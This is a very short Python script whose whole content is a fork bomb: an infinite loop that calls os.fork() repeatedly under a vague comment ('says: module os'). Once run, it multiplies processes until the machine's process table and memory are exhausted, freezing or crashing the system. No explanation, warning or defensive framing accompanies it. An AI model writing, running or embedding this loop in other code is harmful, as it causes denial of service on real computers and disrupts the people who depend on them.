# says: module os
import os
while True:
    os.fork()  #!
